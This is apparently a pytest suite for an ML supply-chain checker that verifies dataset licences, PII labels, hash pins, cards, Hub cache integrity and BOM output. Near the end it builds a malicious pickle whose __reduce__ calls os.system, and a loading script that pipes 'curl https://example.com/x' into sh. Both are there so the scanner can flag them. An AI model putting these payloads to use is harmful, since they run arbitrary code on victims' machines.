"""The dataset claim: each declared dataset is found, licensed, classified, pinned and carded truly.

Driven through the real pipeline (manifest → inventory → plan → runner) on datasets the tests
write: a local directory, and a Hub dataset in a Hugging Face cache tree built on disk.
"""

from __future__ import annotations

import hashlib
import json
import os
import textwrap
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from pytest_mlsupply.checks.provenance_dataset import count_rows, size_bounds
from pytest_mlsupply.checks.runner import run_item
from pytest_mlsupply.manifest.errors import ManifestError
from pytest_mlsupply.manifest.loader import load_manifest
from pytest_mlsupply.reports.bom import build_bom, render_bom_xml
from pytest_mlsupply.results import CheckResult, Severity, Verdict
from pytest_mlsupply.sources.inventory import ArtifactFile
from pytest_mlsupply.sources.resolve import build_inventory
from tests.conftest import build_hub_cache

if TYPE_CHECKING:
    from tests.checks.conftest import Pipeline

COMMIT = "a" * 40
ROWS = "text,label\n" + "".join(f'"review {i}, with a comma",POSITIVE\n' for i in range(20))
CARD = """\
---
license: cc-by-4.0
language: [en]
size_categories: [n<1K]
pretty_name: Reviews
---
# Reviews

Twenty labelled reviews, written for the tests.
"""


def digest(data: str | bytes) -> str:
    raw = data.encode() if isinstance(data, str) else data
    return "sha256:" + hashlib.sha256(raw).hexdigest()


def write_dataset(root: Path, files: dict[str, str]) -> Path:
    directory = root / "data" / "reviews"
    directory.mkdir(parents=True, exist_ok=True)
    for rel, text in files.items():
        (directory / rel).write_text(text)
    return directory


def declare(pipeline: Pipeline, entry: str) -> None:
    """A manifest with the project's tiny model and one dataset entry (YAML mapping keys)."""
    body = textwrap.indent(textwrap.dedent(entry).strip(), "    ")
    (pipeline.project.root / "mlsupply.yaml").write_text(
        "version: 1\nproject: {name: data-service}\n"
        "models:\n  - {name: tiny, path: models/tiny, datasets: [reviews]}\n"
        f"datasets:\n  - name: reviews\n{body}\n"
    )


def local(pipeline: Pipeline, extra: str = "", **files: str) -> CheckResult:
    """The claim on a local dataset holding ``files`` (default: the CSV and a true card)."""
    files = files or {"reviews.csv": ROWS, "README.md": CARD}
    write_dataset(pipeline.project.root, {k.replace("__", "."): v for k, v in files.items()})
    declare(pipeline, "path: data/reviews\n" + textwrap.dedent(extra))
    return pipeline.result("provenance[reviews::dataset]")


def rules(result: CheckResult) -> list[str]:
    return [f.rule for f in result.findings]


PINNED = f"""\
license: cc-by-4.0
pii: none
files: {{reviews.csv: "{digest(ROWS)}"}}
"""


# --- a dataset that is what it says -------------------------------------------------------------


def test_a_pinned_classified_licensed_dataset_with_a_true_card_passes(pipeline: Pipeline) -> None:
    result = local(pipeline, PINNED, reviews__csv=ROWS, README__md=CARD)

    assert result.findings == []
    assert result.verdict(Severity.HIGH) is Verdict.PASS
    facts = result.facts["dataset"]
    assert facts["files"]["reviews.csv"] == digest(ROWS).removeprefix("sha256:")
    assert facts["rows"] == 20  # commas inside quoted fields are not columns, the header no row
    assert facts["card"]["language"] == ["en"]
    assert facts["pii"] == "none"


def test_every_declared_dataset_gets_one_provenance_item(pipeline: Pipeline) -> None:
    write_dataset(pipeline.project.root, {"reviews.csv": ROWS})

    declare(pipeline, PINNED + "path: data/reviews\n")

    assert "provenance[reviews::dataset]" in pipeline.names()


# --- pins ------------------------------------------------------------------------------------------


def test_a_file_that_differs_from_its_pin_fails_quoting_both_digests(pipeline: Pipeline) -> None:
    changed = ROWS.replace("POSITIVE", "NEGATIVE", 1)

    result = local(pipeline, PINNED, reviews__csv=changed, README__md=CARD)

    (finding,) = result.findings
    assert (finding.rule, finding.severity) == ("MLS-DATA-004", Severity.CRITICAL)
    assert digest(ROWS) in finding.evidence
    assert digest(changed) in finding.evidence
    assert finding.location.file == "reviews/reviews.csv"


def test_a_pinned_file_that_is_missing_fails(pipeline: Pipeline) -> None:
    extra = PINNED.replace("files: {", f'files: {{train.csv: "{digest("x")}", ')

    result = local(pipeline, extra, reviews__csv=ROWS, README__md=CARD)

    assert rules(result) == ["MLS-DATA-005"]
    assert "train.csv" in result.findings[0].evidence
    assert result.verdict(Severity.HIGH) is Verdict.FAIL


def test_unpinned_files_of_a_local_dataset_warn_with_the_pins_to_paste(pipeline: Pipeline) -> None:
    result = local(pipeline, "license: cc-by-4.0\npii: none\n")

    (finding,) = result.findings
    assert (finding.rule, finding.severity) == ("MLS-DATA-006", Severity.MEDIUM)
    # The card is documentation, not data: only the CSV is asked for, with its real digest.
    assert f'reviews.csv: "{digest(ROWS)}"' in finding.remediation
    assert "README.md" not in finding.evidence
    assert result.verdict(Severity.HIGH) is Verdict.WARN


def test_an_empty_dataset_directory_fails(pipeline: Pipeline) -> None:
    (pipeline.project.root / "data" / "reviews").mkdir(parents=True)
    declare(pipeline, "path: data/reviews\nlicense: cc-by-4.0\npii: none\n")

    result = pipeline.result("provenance[reviews::dataset]")

    assert "MLS-DATA-011" in rules(result)
    assert result.verdict(Severity.HIGH) is Verdict.FAIL


# --- licence and PII ---------------------------------------------------------------------------


@pytest.mark.parametrize("level", ["none", "pseudonymised", "personal", "sensitive"])
def test_each_pii_level_is_accepted(pipeline: Pipeline, level: str) -> None:
    result = local(pipeline, PINNED.replace("pii: none", f"pii: {level}"))

    assert result.findings == []
    assert result.facts["dataset"]["pii"] == level


def test_a_dataset_without_a_pii_classification_fails(pipeline: Pipeline) -> None:
    result = local(pipeline, PINNED.replace("pii: none\n", ""))

    (finding,) = result.findings
    assert (finding.rule, finding.severity) == ("MLS-DATA-003", Severity.HIGH)
    assert "pii: none|pseudonymised|personal|sensitive" in finding.remediation
    assert finding.location.file == "mlsupply.yaml"


def test_a_pii_level_the_loader_does_not_know_is_a_manifest_error(pipeline: Pipeline) -> None:
    write_dataset(pipeline.project.root, {"reviews.csv": ROWS})
    declare(pipeline, "path: data/reviews\npii: personnal\n")

    with pytest.raises(ManifestError) as info:
        load_manifest(pipeline.project.root / "mlsupply.yaml")

    text = str(info.value)
    assert "mlsupply.yaml:8:" in text
    assert "datasets[0].pii" in text
    assert "did you mean 'personal'?" in text


def test_a_dataset_without_a_licence_anywhere_fails(pipeline: Pipeline) -> None:
    card = CARD.replace("license: cc-by-4.0\n", "")
    result = local(
        pipeline, PINNED.replace("license: cc-by-4.0\n", ""), README__md=card, reviews__csv=ROWS
    )

    assert rules(result) == ["MLS-DATA-001"]
    assert result.verdict(Severity.HIGH) is Verdict.FAIL


def test_the_cards_licence_stands_in_when_the_manifest_states_none(pipeline: Pipeline) -> None:
    result = local(pipeline, PINNED.replace("license: cc-by-4.0\n", ""))

    assert result.findings == []
    assert result.facts["dataset"]["license"] == "cc-by-4.0"


def test_a_licence_the_table_does_not_know_warns(pipeline: Pipeline) -> None:
    card = CARD.replace("license: cc-by-4.0", "license: other")
    extra = PINNED.replace("cc-by-4.0", "acme-data-licence-2")

    result = local(pipeline, extra, reviews__csv=ROWS, README__md=card)

    (finding,) = result.findings
    assert (finding.rule, finding.severity) == ("MLS-DATA-002", Severity.MEDIUM)
    assert "acme-data-licence-2" in finding.evidence


# --- the dataset card --------------------------------------------------------------------------


def test_a_card_whose_licence_contradicts_the_manifest_fails_quoting_both(
    pipeline: Pipeline,
) -> None:
    card = CARD.replace("license: cc-by-4.0", "license: cc-by-nc-4.0")

    result = local(pipeline, PINNED, reviews__csv=ROWS, README__md=card)

    (finding,) = result.findings
    assert (finding.rule, finding.severity) == ("MLS-DATA-009", Severity.HIGH)
    assert "license: 'cc-by-4.0'" in finding.evidence
    assert "license: 'cc-by-nc-4.0'" in finding.evidence
    assert (finding.location.file, finding.location.key_path) == ("reviews/README.md", "license")


def test_licences_spelled_differently_but_equal_agree(pipeline: Pipeline) -> None:
    card = CARD.replace("license: cc-by-4.0", "license: CC-BY-4.0")

    assert local(pipeline, PINNED, reviews__csv=ROWS, README__md=card).findings == []


def test_a_card_whose_size_category_contradicts_the_row_count_warns_quoting_both(
    pipeline: Pipeline,
) -> None:
    card = CARD.replace("n<1K", "10K<n<100K")

    result = local(pipeline, PINNED, reviews__csv=ROWS, README__md=card)

    (finding,) = result.findings
    assert (finding.rule, finding.severity) == ("MLS-DATA-010", Severity.MEDIUM)
    assert "size_categories: 10K<n<100K" in finding.evidence
    assert "hold 20 rows" in finding.evidence


def test_the_size_is_not_compared_when_a_file_is_in_a_format_not_counted(
    pipeline: Pipeline,
) -> None:
    card = CARD.replace("n<1K", "10K<n<100K")
    files = {"reviews.csv": ROWS, "README.md": card, "extra.parquet": "PAR1"}
    extra = PINNED.replace("files: {", f'files: {{extra.parquet: "{digest("PAR1")}", ')

    result = local(pipeline, extra, **{k.replace(".", "__"): v for k, v in files.items()})

    assert result.findings == []
    assert "rows" not in result.facts["dataset"]


def test_a_dataset_without_a_card_gets_a_low_finding(pipeline: Pipeline) -> None:
    result = local(pipeline, PINNED, reviews__csv=ROWS)

    assert rules(result) == ["MLS-DATA-007"]
    assert result.verdict(Severity.HIGH) is Verdict.WARN


def test_a_card_with_broken_front_matter_is_reported(pipeline: Pipeline) -> None:
    result = local(pipeline, PINNED, reviews__csv=ROWS, README__md="---\nlicense: [\n---\n")

    assert rules(result) == ["MLS-DATA-008"]


@pytest.mark.parametrize(
    ("category", "bounds"),
    [
        ("n<1K", (0, 1_000)),
        ("1K<n<10K", (1_000, 10_000)),
        ("10M<n<100M", (10_000_000, 100_000_000)),
        ("n>1T", (10**12, None)),
        ("unknown", None),
        ("other", None),
    ],
)
def test_hub_size_categories_are_read_as_row_ranges(
    category: str, bounds: tuple[int, int | None] | None
) -> None:
    assert size_bounds(category) == bounds


def test_rows_are_counted_as_records_not_lines(tmp_path: Path) -> None:
    csv_path = tmp_path / "a.csv"
    csv_path.write_text('text,label\n"two\nlines",POSITIVE\none,NEGATIVE\n')
    jsonl = tmp_path / "b.jsonl"
    jsonl.write_text('{"a": 1}\n\n{"a": 2}\n{"a": 3}\n')
    files = tuple(
        ArtifactFile(model="d", relpath=p.name, path=p, size=p.stat().st_size)
        for p in (csv_path, jsonl)
    )

    assert count_rows(files) == 2 + 3


def test_a_licence_text_beside_the_rows_does_not_stop_the_count(tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_text("{}\n{}\n")
    (tmp_path / "LICENSE.txt").write_text("CC-BY-4.0\n")
    (tmp_path / "notes.txt").write_text("one\ntwo\n")
    entries = [
        ArtifactFile(model="d", relpath=p.name, path=p, size=p.stat().st_size)
        for p in sorted(tmp_path.iterdir())
    ]

    assert count_rows(tuple(e for e in entries if e.relpath != "notes.txt")) == 2
    # Text files may be rows nobody counted: then no count at all, rather than a short one.
    assert count_rows(tuple(entries)) is None


# --- Hub datasets ----------------------------------------------------------------------------------


def hub_manifest(pipeline: Pipeline, pins: dict[str, str]) -> None:
    pinned = ", ".join(f'{rel}: "{value}"' for rel, value in pins.items())
    declare(
        pipeline,
        f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\npii: none\n"
        f"files: {{{pinned}}}\n",
    )


def test_a_hub_dataset_resolves_from_the_local_cache_and_its_pins_are_compared(
    pipeline: Pipeline, empty_hub_cache: Path
) -> None:
    card = CARD.replace("n<1K", "10K<n<100K")  # not compared: the rows are not all here
    build_hub_cache(
        empty_hub_cache,
        "acme/reviews",
        COMMIT,
        {"data/test.jsonl": b'{"text": "ok"}\n' * 3, "README.md": card.encode()},
        repo_type="dataset",
    )
    hub_manifest(pipeline, {"data/test.jsonl": digest('{"text": "ok"}\n' * 3)})

    result = pipeline.result("provenance[reviews::dataset]")

    assert result.findings == []
    assert result.facts["dataset"]["commit"] == COMMIT
    # Only the pinned files and the card were fetched; the cache cannot say what else the
    # commit holds, so the rows are not counted (and the card's size is not compared).
    assert "rows" not in result.facts["dataset"]


def test_a_whole_hub_dataset_snapshot_has_its_rows_counted(
    pipeline: Pipeline, empty_hub_cache: Path
) -> None:
    build_hub_cache(
        empty_hub_cache,
        "acme/reviews",
        COMMIT,
        {"data/test.jsonl": b'{"text": "ok"}\n' * 3, "README.md": CARD.encode()},
        repo_type="dataset",
    )
    declare(
        pipeline,
        f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\npii: none\n",
    )

    result = pipeline.result("provenance[reviews::dataset]")

    assert result.findings == []
    assert result.facts["dataset"]["rows"] == 3


def test_a_hub_dataset_whose_cached_file_differs_from_its_pin_fails(
    pipeline: Pipeline, empty_hub_cache: Path
) -> None:
    build_hub_cache(
        empty_hub_cache,
        "acme/reviews",
        COMMIT,
        {"data/test.jsonl": b'{"text": "poisoned"}\n', "README.md": CARD.encode()},
        repo_type="dataset",
    )
    hub_manifest(pipeline, {"data/test.jsonl": digest('{"text": "ok"}\n')})

    result = pipeline.result("provenance[reviews::dataset]")

    assert rules(result) == ["MLS-DATA-004"]


def test_a_hub_dataset_missing_from_the_offline_cache_is_an_error_never_a_pass(
    pipeline: Pipeline, empty_hub_cache: Path
) -> None:
    hub_manifest(pipeline, {"data/test.jsonl": digest("x")})

    result = pipeline.result("provenance[reviews::dataset]")

    assert result.verdict(Severity.HIGH) is Verdict.ERROR
    assert "acme/reviews" in (result.error or "")


def test_an_unclassified_dataset_that_cannot_be_found_still_fails_on_its_pii(
    pipeline: Pipeline, empty_hub_cache: Path
) -> None:
    declare(pipeline, f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\n")

    result = pipeline.result("provenance[reviews::dataset]")

    assert rules(result) == ["MLS-DATA-003"]
    assert result.error is not None
    assert result.verdict(Severity.HIGH) is Verdict.FAIL


# --- the manifest and the BOM ------------------------------------------------------------------


def test_a_dataset_named_like_a_model_is_a_manifest_error(pipeline: Pipeline) -> None:
    write_dataset(pipeline.project.root, {"reviews.csv": ROWS})
    (pipeline.project.root / "mlsupply.yaml").write_text(
        "version: 1\nproject: {name: p}\nmodels:\n  - {name: tiny, path: models/tiny}\n"
        "datasets:\n  - {name: tiny, path: data/reviews, pii: none}\n"
    )

    with pytest.raises(ManifestError) as info:
        load_manifest(pipeline.project.root / "mlsupply.yaml")

    assert "'tiny' is also a model's name" in str(info.value)
    assert "mlsupply.yaml:6:" in str(info.value)


def test_the_bom_has_a_strictly_valid_data_component_with_governance_and_hashes(
    pipeline: Pipeline,
) -> None:
    extra = PINNED.replace("pii: none", "pii: sensitive") + (
        "governance: {owners: [Acme Health], custodians: [Acme Data Ops]}\n"
    )
    result = local(pipeline, extra)
    assert result.findings == []
    inventory = build_inventory(load_manifest(pipeline.project.root / "mlsupply.yaml"))
    plan, _ = pipeline.planned()
    item = next(i for i in plan if i.name == "provenance[reviews::dataset]")

    document = build_bom(inventory, [item], [result], Severity.HIGH)  # validates, or raises
    xml = render_bom_xml(inventory, [item], [result], Severity.HIGH)  # XSD-validated too

    (component,) = [c for c in document["components"] if c["bom-ref"] == "dataset:reviews"]
    assert component["type"] == "data"
    props = {p["name"]: p["value"] for p in component["properties"]}
    assert props["mlsupply:provenance:dataset"] == "pass"
    assert props["mlsupply:rows"] == "20"
    files = {c["name"]: c["hashes"][0]["content"] for c in component["components"]}
    assert files["reviews.csv"] == digest(ROWS).removeprefix("sha256:")
    (data,) = component["data"]
    assert data["classification"] == "pii:sensitive"
    assert data["sensitiveData"] == [
        "special-category personal data (health, biometrics, beliefs, ...)"
    ]
    assert data["governance"] == {
        "owners": [{"organization": {"name": "Acme Health"}}],
        "custodians": [{"organization": {"name": "Acme Data Ops"}}],
    }
    model: dict[str, Any] = next(c for c in document["components"] if c["bom-ref"] == "model:tiny")
    assert model["modelCard"]["modelParameters"]["datasets"] == [{"ref": "dataset:reviews"}]
    root = ET.fromstring(xml.encode())
    ns = {"c": "http://cyclonedx.org/schema/bom/1.6"}
    element = root.find("c:components/c:component[@bom-ref='dataset:reviews']/c:data", ns)
    assert element is not None
    assert element.findtext("c:classification", namespaces=ns) == "pii:sensitive"
    custodian = "c:governance/c:custodians/c:custodian/c:organization/c:name"
    assert element.findtext(custodian, namespaces=ns) == "Acme Data Ops"
    json.dumps(document)  # plain data all the way down


def test_a_hub_dataset_on_a_branch_is_recorded_in_the_bom_as_the_commit_checked(
    pipeline: Pipeline, empty_hub_cache: Path
) -> None:
    build_hub_cache(
        empty_hub_cache,
        "acme/reviews",
        COMMIT,
        {"data/test.jsonl": b'{"text": "ok"}\n', "README.md": CARD.encode()},
        repo_type="dataset",
    )
    (pipeline.project.root / "mlsupply.yaml").write_text(
        "version: 1\nproject: {name: p}\npolicy: {require_pins: false}\n"
        "datasets:\n  - {name: reviews, source: hf-datasets://acme/reviews@main, "
        "license: cc-by-4.0, pii: none}\n"
    )
    plan, ctx = pipeline.planned()
    (item,) = [i for i in plan if i.name == "provenance[reviews::dataset]"]
    (result,) = run_item(item, ctx)
    assert result.findings == []

    document = build_bom(ctx.inventory, [item], [result], Severity.HIGH)

    (component,) = [c for c in document["components"] if c["bom-ref"] == "dataset:reviews"]
    assert component["version"] == COMMIT
    assert component["purl"] == f"pkg:huggingface/acme/reviews@{COMMIT}"
    props = {p["name"]: p["value"] for p in component["properties"]}
    assert props["mlsupply:declared-revision"] == "main"
    assert component["data"][0]["contents"]["url"].endswith(f"/tree/{COMMIT}")


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        (
            'path: data/reviews\nfiles: {reviews.csv: "md5:abc"}\n',
            "datasets[0].files.reviews.csv",
        ),
        (
            "path: data/reviews\ngovernance: {maintainers: [Acme]}\n",
            "datasets[0].governance",
        ),
        ("path: data/reviews\ngovernance: {owners: Acme}\n", "datasets[0].governance.owners"),
    ],
)
def test_bad_pins_and_governance_are_manifest_errors_naming_the_key(
    pipeline: Pipeline, entry: str, message: str
) -> None:
    write_dataset(pipeline.project.root, {"reviews.csv": ROWS})
    declare(pipeline, entry)

    with pytest.raises(ManifestError) as info:
        load_manifest(pipeline.project.root / "mlsupply.yaml")

    assert message in str(info.value)
    assert "mlsupply.yaml:" in str(info.value)


def test_a_fifo_in_a_dataset_is_an_error_not_a_hang_or_a_pass(pipeline: Pipeline) -> None:
    directory = write_dataset(pipeline.project.root, {"reviews.csv": ROWS})
    os.mkfifo(directory / "stream.csv")
    declare(pipeline, PINNED + "path: data/reviews\n")

    result = pipeline.result("provenance[reviews::dataset]")

    assert result.verdict(Severity.HIGH) is Verdict.ERROR
    assert "cannot read reviews/stream.csv" in (result.error or "")
    assert "stream.csv is not a regular file" in (result.error or "")


def test_findings_about_other_files_outrank_an_unreadable_one(pipeline: Pipeline) -> None:
    directory = write_dataset(pipeline.project.root, {"reviews.csv": "tampered\n"})
    os.mkfifo(directory / "stream.csv")
    declare(pipeline, PINNED + "path: data/reviews\n")

    result = pipeline.result("provenance[reviews::dataset]")

    assert "MLS-DATA-004" in rules(result)
    assert result.error is not None
    assert result.verdict(Severity.HIGH) is Verdict.FAIL


# --- adversarial review: what a pinned, classified dataset must not let through -----------------


def test_a_file_added_to_a_pinned_local_dataset_fails_not_only_warns(pipeline: Pipeline) -> None:
    result = local(pipeline, PINNED, reviews__csv=ROWS, README__md=CARD, extra__csv="x,y\n1,2\n")

    assert "MLS-DATA-012" in rules(result)
    assert "extra.csv" in next(f for f in result.findings if f.rule == "MLS-DATA-012").evidence
    assert result.verdict(Severity.HIGH) is Verdict.FAIL


def test_a_tampered_blob_of_an_unpinned_hub_dataset_fails(
    pipeline: Pipeline, empty_hub_cache: Path
) -> None:
    snapshot = build_hub_cache(
        empty_hub_cache,
        "acme/reviews",
        COMMIT,
        {"data/test.jsonl": b'{"text": "ok"}\n' * 3, "README.md": CARD.encode()},
        repo_type="dataset",
    )
    blob = (snapshot / "data" / "test.jsonl").resolve()
    os.chmod(blob, 0o644)
    blob.write_bytes(b'{"text": "poisoned"}\n' * 3)
    declare(
        pipeline,
        f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\npii: none\n",
    )

    result = pipeline.result("provenance[reviews::dataset]")

    assert rules(result) == ["MLS-DATA-013"]
    assert result.findings[0].severity is Severity.CRITICAL


def test_a_file_dropped_into_a_hub_dataset_snapshot_fails(
    pipeline: Pipeline, empty_hub_cache: Path
) -> None:
    snapshot = build_hub_cache(
        empty_hub_cache,
        "acme/reviews",
        COMMIT,
        {"data/test.jsonl": b'{"text": "ok"}\n' * 3, "README.md": CARD.encode()},
        repo_type="dataset",
    )
    (snapshot / "data" / "extra.jsonl").write_text('{"text": "injected"}\n')
    declare(
        pipeline,
        f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\npii: none\n",
    )

    result = pipeline.result("provenance[reviews::dataset]")

    assert rules(result) == ["MLS-DATA-014"]
    assert "data/extra.jsonl" in result.findings[0].evidence
    assert result.verdict(Severity.HIGH) is Verdict.FAIL


@pytest.mark.parametrize("front", ["license: other", "license: unknown", "license: [other]"])
def test_a_card_licence_that_names_no_licence_is_no_licence(pipeline: Pipeline, front: str) -> None:
    card = CARD.replace("license: cc-by-4.0", front)

    result = local(pipeline, "pii: none\n", reviews__csv=ROWS, README__md=card)

    assert "MLS-DATA-001" in rules(result)
    assert result.verdict(Severity.HIGH) is Verdict.FAIL


def test_a_csv_with_a_field_longer_than_the_csv_modules_limit_is_counted(tmp_path: Path) -> None:
    path = tmp_path / "articles.csv"
    path.write_text('title,body\nlong,"' + "word " * 40_000 + '"\nshort,text\n')
    file = ArtifactFile(
        model="articles", relpath="articles.csv", path=path, size=path.stat().st_size
    )

    assert count_rows((file,)) == 2


def test_a_hub_dataset_card_cached_under_its_git_blob_id_passes(
    pipeline: Pipeline, empty_hub_cache: Path
) -> None:
    snapshot = build_hub_cache(
        empty_hub_cache,
        "acme/reviews",
        COMMIT,
        {"data/test.jsonl": b'{"text": "ok"}\n' * 3, "README.md": CARD.encode()},
        repo_type="dataset",
    )
    # A regular (non-LFS) file's blob is named after its git object id, as the Hub serves it.
    raw = CARD.encode()
    git_id = hashlib.sha1(b"blob %d\0" % len(raw) + raw, usedforsecurity=False).hexdigest()
    link = snapshot / "README.md"
    link.resolve().rename(link.resolve().parent / git_id)
    link.unlink()
    link.symlink_to(f"../../blobs/{git_id}")
    declare(
        pipeline,
        f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\npii: none\n",
    )

    result = pipeline.result("provenance[reviews::dataset]")

    assert result.findings == []
    assert result.facts["dataset"]["rows"] == 3


@pytest.mark.parametrize(
    "data_files",
    [
        ".cache/rows.csv",  # a directory the listing skips: never hashed
        "[{split: train, path: .git/rows.csv}]",
        "{train: ../elsewhere/rows.csv}",
        "hf://datasets/mallory/poison@main/rows.csv",
        "https://example.com/rows.csv",
        "/srv/rows.csv",
    ],
)
def test_a_card_whose_configs_load_data_the_claim_never_hashed_fails(
    pipeline: Pipeline, data_files: str
) -> None:
    # `datasets.load_dataset(<dir>)` reads the card's `configs:` first: these rows, not the pins.
    card = CARD.replace(
        "---\n#", f"configs:\n- config_name: default\n  data_files: {data_files}\n---\n#"
    )
    directory = write_dataset(pipeline.project.root, {})
    for hidden in (".cache", ".git"):
        (directory / hidden).mkdir()
        (directory / hidden / "rows.csv").write_text("text,label\nbad,1\n")

    result = local(pipeline, PINNED, reviews__csv=ROWS, README__md=card)

    assert "MLS-DATA-015" in rules(result)
    assert result.verdict(Severity.HIGH) is Verdict.FAIL


def test_a_card_whose_configs_name_the_pinned_files_passes(pipeline: Pipeline) -> None:
    card = CARD.replace(
        "---\n#",
        "configs:\n- config_name: default\n  data_files:\n  - split: train\n"
        '    path: ["reviews.csv", "*.csv"]\n  data_dir: .\n---\n#',
    )

    result = local(pipeline, PINNED, reviews__csv=ROWS, README__md=card)

    assert result.findings == []


@pytest.mark.parametrize("extra", ["more.npy", "more.pkl", "more.xlsx", "more.tfrecord", "more.db"])
def test_rows_in_a_format_not_counted_stop_the_count_whatever_its_suffix(
    tmp_path: Path, extra: str
) -> None:
    (tmp_path / "a.jsonl").write_text("{}\n{}\n")
    (tmp_path / extra).write_bytes(b"\x93NUMPY millions of rows")
    (tmp_path / ".gitattributes").write_text("*.npy filter=lfs\n")
    (tmp_path / "README.md").write_text(CARD)
    entries = tuple(
        ArtifactFile(model="d", relpath=p.name, path=p, size=p.stat().st_size)
        for p in sorted(tmp_path.iterdir())
    )

    # Two rows would be the BOM's `rows` and the size compared, though the data is elsewhere.
    assert count_rows(entries) is None
    assert count_rows(tuple(e for e in entries if e.relpath != extra)) == 2


class _Reduce:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, ("echo owned",))


def test_a_pinned_pickle_in_a_dataset_is_scanned_and_fails(pipeline: Pipeline) -> None:
    import pickle

    payload = pickle.dumps(_Reduce())
    directory = write_dataset(pipeline.project.root, {"reviews.csv": ROWS, "README.md": CARD})
    (directory / "features.pkl").write_bytes(payload)
    pins = f'reviews.csv: "{digest(ROWS)}", features.pkl: "{digest(payload)}"'
    declare(pipeline, f"path: data/reviews\nlicense: cc-by-4.0\npii: none\nfiles: {{{pins}}}\n")

    result = pipeline.result("provenance[reviews::dataset]")

    assert "MLS-PKL-001" in rules(result)
    assert result.verdict(Severity.HIGH) is Verdict.FAIL


def test_a_pinned_loading_script_in_a_dataset_is_scanned_and_fails(pipeline: Pipeline) -> None:
    script = "import os\nos.system('curl https://example.com/x | sh')\n"
    pins = f'reviews.csv: "{digest(ROWS)}", reviews.py: "{digest(script)}"'
    extra = f"license: cc-by-4.0\npii: none\nfiles: {{{pins}}}\n"

    result = local(pipeline, extra, reviews__csv=ROWS, README__md=CARD, reviews__py=script)

    assert "MLS-CODE-002" in rules(result)
    assert result.verdict(Severity.HIGH) is Verdict.FAIL


def test_a_hub_dataset_file_linked_to_another_repositorys_blob_fails(
    pipeline: Pipeline, empty_hub_cache: Path
) -> None:
    snapshot = build_hub_cache(
        empty_hub_cache,
        "acme/reviews",
        COMMIT,
        {"data/test.jsonl": b'{"text": "ok"}\n' * 3, "README.md": CARD.encode()},
        repo_type="dataset",
    )
    # A well-formed blob, true to its own name, in a repository the manifest never declared.
    other = build_hub_cache(
        empty_hub_cache,
        "mallory/poison",
        "b" * 40,
        {"data/test.jsonl": b'{"text": "poisoned"}\n' * 3},
        repo_type="dataset",
    )
    link = snapshot / "data" / "test.jsonl"
    link.unlink()
    link.symlink_to(os.path.realpath(other / "data" / "test.jsonl"))
    declare(
        pipeline,
        f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\npii: none\n",
    )

    result = pipeline.result("provenance[reviews::dataset]")

    assert rules(result) == ["MLS-DATA-014"]
    assert result.verdict(Severity.HIGH) is Verdict.FAIL


def test_a_hub_dataset_file_linked_to_another_blob_than_the_commit_lists_fails(
    pipeline: Pipeline, empty_hub_cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import dataclasses

    from pytest_mlsupply.checks import provenance_dataset
    from pytest_mlsupply.sources.hub import HubFileMeta

    train, test = b'{"text": "train"}\n' * 3, b'{"text": "test"}\n' * 3
    snapshot = build_hub_cache(
        empty_hub_cache,
        "acme/reviews",
        COMMIT,
        {"data/train.jsonl": train, "data/test.jsonl": test, "README.md": CARD.encode()},
        repo_type="dataset",
    )
    # The test split's link now serves the train split: both blobs are true to their names.
    link = snapshot / "data" / "test.jsonl"
    link.unlink()
    link.symlink_to(f"../../../blobs/{hashlib.sha256(train).hexdigest()}")
    # The commit's listing, as the Hub (or the cache's record of it) gives it.
    listing = {
        rel: HubFileMeta(rel, len(data), lfs_sha256=hashlib.sha256(data).hexdigest())
        for rel, data in {"data/train.jsonl": train, "data/test.jsonl": test}.items()
    }
    real = provenance_dataset.resolve_dataset
    monkeypatch.setattr(
        provenance_dataset,
        "resolve_dataset",
        lambda decl: dataclasses.replace(real(decl), hub_files=listing),
    )
    declare(
        pipeline,
        f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\npii: none\n",
    )

    result = pipeline.result("provenance[reviews::dataset]")

    assert rules(result) == ["MLS-DATA-014"]
    assert "data/test.jsonl" in result.findings[0].evidence


def test_a_loading_script_at_a_pinned_hub_datasets_commit_that_was_never_fetched_fails(
    pipeline: Pipeline, empty_hub_cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import dataclasses

    from pytest_mlsupply.checks import provenance_dataset
    from pytest_mlsupply.sources.hub import HubFileMeta

    rows = b'{"text": "ok"}\n' * 3
    build_hub_cache(
        empty_hub_cache,
        "acme/reviews",
        COMMIT,
        {"data/test.jsonl": rows, "README.md": CARD.encode()},
        repo_type="dataset",
    )
    # The commit also holds a loading script: `datasets` would run it; only the pins were fetched.
    listing = {
        "data/test.jsonl": HubFileMeta("data/test.jsonl", len(rows), blob_id="0" * 40),
        "reviews.py": HubFileMeta("reviews.py", 120, blob_id="1" * 40),
        "README.md": HubFileMeta(
            "README.md", len(CARD), lfs_sha256=hashlib.sha256(CARD.encode()).hexdigest()
        ),
    }
    real = provenance_dataset.resolve_dataset
    monkeypatch.setattr(
        provenance_dataset,
        "resolve_dataset",
        lambda decl: dataclasses.replace(real(decl), hub_files=listing, complete=False),
    )
    hub_manifest(pipeline, {"data/test.jsonl": digest(rows)})

    result = pipeline.result("provenance[reviews::dataset]")

    assert rules(result) == ["MLS-DATA-016"]
    assert "reviews.py" in result.findings[0].evidence
